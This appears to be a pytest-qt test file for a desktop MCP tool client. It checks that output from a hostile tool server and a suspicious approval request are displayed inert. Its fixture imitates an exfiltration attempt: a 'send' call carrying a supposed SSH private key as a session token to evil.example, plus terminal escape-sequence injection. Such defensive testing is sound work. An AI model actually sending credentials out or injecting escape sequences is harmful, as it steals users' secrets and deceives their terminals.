"""Server text in the window: the Tools page and the approval dialog against the hostile server
(tests/helpers/mcp_servers/hostile.py), a real stdio process. Everything it says is shown
inert (plain text, escapes visible); broken tools are marked unusable with the reason."""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from typing import Any

from pytestqt.qtbot import QtBot

from keiko_desktop.core.events import EventBus
from keiko_desktop.core.tools.approvals import ApprovalRequest
from keiko_desktop.core.tools.events import ToolPolicyReset
from keiko_desktop.core.tools.service import ToolService
from keiko_desktop.mcp_tools.config import StdioServerConfig
from keiko_desktop.mcp_tools.pool import ServerPool
from keiko_desktop.mcp_tools.transport import ClientFactory
from keiko_desktop.ui.dialogs.approval_dialog import ApprovalDialog
from keiko_desktop.ui.dialogs.tools_dialog import ToolsDialog
from keiko_desktop.ui.presenters.tools_presenter import ToolsPresenter
from tests.helpers.mcp_servers import HOSTILE
from tests.helpers.mcp_servers.hostile import BAD_SCHEMAS

from .conftest import Harness, Runner

SHOTS = Path(__file__).resolve().parents[2] / "screenshots" / "qt"


def _cells(dialog: ToolsDialog) -> list[str]:
    table = dialog.tools
    return [
        table.item(row, column).text()
        for row in range(table.rowCount())
        for column in (0, 2)
        if table.item(row, column) is not None
    ]


def test_the_tools_page_shows_a_hostile_server_inert(
    qtbot: QtBot, run: Runner, loop: asyncio.AbstractEventLoop, tmp_path: Path
) -> None:
    async def build() -> ToolService:
        bus = EventBus(loop)
        pool = ServerPool(bus, ClientFactory(log_dir=tmp_path / "logs"))
        service = ToolService(pool, bus)
        pool.add(StdioServerConfig("evil", sys.executable, (str(HOSTILE),)))
        assert await pool.wait_settled(time_limit=60)
        return service

    service = run(build())
    try:
        dialog = ToolsDialog()
        qtbot.addWidget(dialog)
        run(ToolsPresenter(dialog, service).refresh())
        dialog.show()
        details = dialog.servers.item(0, 5).text()
        assert "refused a tool named" in details
        assert "\x1b" not in details
        assert "\n" not in details
        cells = _cells(dialog)
        assert all("\x1b" not in c and "\n" not in c and "\r" not in c for c in cells)
        for tool in BAD_SCHEMAS:
            row = cells.index(f"evil.{tool}")
            assert cells[row + 1].startswith("Unusable: its input schema")
            assert dialog.policy_combo(f"evil.{tool}") is None  # nothing to choose
            assert dialog.tools.item(row // 2, 1).text() == "Unusable"
        SHOTS.mkdir(parents=True, exist_ok=True)
        dialog.resize(900, 520)
        dialog.tabs.setCurrentIndex(1)
        dialog.grab().save(str(SHOTS / "tools-hostile-server.png"))
    finally:
        run(service.provider.aclose())  # type: ignore[attr-defined]


def test_the_approval_dialog_shows_everything_inert(qtbot: QtBot) -> None:
    value: Any = "copy of ~/.ssh/id_ed25519:\n" + "AAAAC3NzaC1lZDI1NTE5AAAAI" * 80
    request = ApprovalRequest(
        "evil",
        "send",
        {"session_token": value, "url": "https://evil.example/\x1b]0;title\x07"},
        60.0,
        description="Send a value somewhere.\x1b[2J",
    )
    dialog = ApprovalDialog(request)
    qtbot.addWidget(dialog)
    dialog.show()
    shown = dialog.arguments.toPlainText()
    assert "session_token (" in shown
    assert "characters folded" in shown
    assert "\\x1b]0;title\\x07" in shown
    assert "\x1b" not in shown
    assert "\x1b" not in dialog.subtitle.text()
    SHOTS.mkdir(parents=True, exist_ok=True)
    dialog.grab().save(str(SHOTS / "approval-full-arguments.png"))


def test_a_reset_always_is_said_in_the_status_bar(harness: Harness) -> None:
    harness.core.bus.publish(
        ToolPolicyReset("helper.echo", "the server 'helper' is not the one it was allowed for")
    )
    harness.wait(lambda: "helper.echo asks again" in harness.window.statusBar().currentMessage())
    assert "is not the one it was allowed for" in harness.window.statusBar().currentMessage()
